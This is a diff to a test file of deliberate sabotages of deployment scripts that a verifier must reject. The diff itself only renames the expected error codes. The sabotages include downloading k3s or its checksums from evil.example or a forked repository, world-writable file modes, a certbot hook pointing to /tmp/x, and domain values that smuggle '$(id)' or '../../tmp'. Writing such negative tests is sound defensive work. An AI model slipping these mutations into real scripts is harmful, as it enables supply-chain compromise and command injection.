@@ -70,7 +70,7 @@ export const scripts: SabotagesOfKind = [
   ),
   refused(
     'a list of hashes from elsewhere',
-    'verify/step-missing',
+    'verify/download-elsewhere',
     line(
       'fetch https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum-amd64.txt',
       'fetch http://evil.example/sums',
@@ -79,7 +79,7 @@ export const scripts: SabotagesOfKind = [
   ),
   refused(
     'the binary from elsewhere, by the old list',
-    'verify/step-missing',
+    'verify/download-elsewhere',
     line(
       'fetch https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
       'fetch https://github.com/evil/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
@@ -87,7 +87,7 @@ export const scripts: SabotagesOfKind = [
   ),
   refused(
     'the binary and the list from elsewhere',
-    'verify/step-missing',
+    'verify/download-elsewhere',
     {
       file,
       find: 'https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum',
@@ -97,7 +97,7 @@ export const scripts: SabotagesOfKind = [
   ),
   refused(
     'the binary without https',
-    'verify/step-missing',
+    'verify/download-elsewhere',
     line(
       'fetch https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
       'fetch http://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
@@ -180,12 +180,12 @@ export const scripts: SabotagesOfKind = [
   ),
   refused(
     'a file that all may write',
-    'verify/node-file-wrong',
+    'verify/node-file-mode',
     line('put 0755 /usr/local/sbin/openfaas-tls', 'put 0777 /usr/local/sbin/openfaas-tls'),
   ),
   refused(
     'a file with the right to be root',
-    'verify/node-file-wrong',
+    'verify/node-file-mode',
     line('put 0644 /etc/nginx/nginx.conf', 'put 0666 /etc/nginx/nginx.conf'),
   ),
   refused('certbot runs a command before', 'verify/script-edited', {
@@ -218,17 +218,17 @@ export const scripts: SabotagesOfKind = [
     find: ' --webroot --webroot-path',
     put: ' --manual-auth-hook /tmp/x --webroot --webroot-path',
   }),
-  refused('a name of a certificate that is a command', 'verify/node-file-wrong', {
+  refused('a name of a certificate that is a command', 'verify/certificate-of-other-names', {
     file: tls,
     find: 'domains=(functions.your-domain.no)',
     put: 'domains=(functions.your-domain.no $(id))',
   }),
-  refused('a name of a certificate that leads out of its directory', 'verify/node-file-wrong', {
+  refused('a name of a certificate that leads out of its directory', 'verify/certificate-of-other-names', {
     file: tls,
     find: 'domains=(functions.your-domain.no)',
     put: 'domains=(functions.your-domain.no ../../tmp)',
   }),
-  refused('a certificate for somebody', 'verify/node-file-wrong', {
+  refused('a certificate for somebody', 'verify/certificate-of-other-names', {
     file: tls,
     find: 'domains=(functions.your-domain.no)',
     put: 'domains=(functions.your-domain.no evil.example)',
